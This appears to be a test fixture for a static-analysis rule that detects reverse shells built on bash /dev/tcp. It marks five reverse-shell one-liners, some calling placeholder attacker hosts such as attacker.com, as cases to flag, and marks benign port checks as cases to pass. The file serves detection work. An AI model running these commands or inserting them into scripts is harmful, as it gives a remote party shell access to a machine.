# ruleid: bash.reverse-shell-dev-tcp
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# ruleid: bash.reverse-shell-dev-tcp
bash -c 'exec bash -i &>/dev/tcp/attacker.com/12345 <&1'
# ruleid: bash.reverse-shell-dev-tcp
ksh -c 'ksh -i > /dev/tcp/attacker.com/12345 2>&1 0>&1'
# ruleid: bash.reverse-shell-dev-tcp
exec 5<>/dev/tcp/203.0.113.9/8080; cat <&5 | while read line; do $line 2>&5 >&5; done
# ruleid: bash.reverse-shell-dev-tcp
sh -i 5<> /dev/tcp/host.example/9001 0<&5 1>&5 2>&5
# ok: bash.reverse-shell-dev-tcp
timeout 1 bash -c "</dev/tcp/db.internal/5432" && echo open
# ok: bash.reverse-shell-dev-tcp
echo > /dev/tcp/localhost/80 && echo "port open"
# ok: bash.reverse-shell-dev-tcp
bash -i
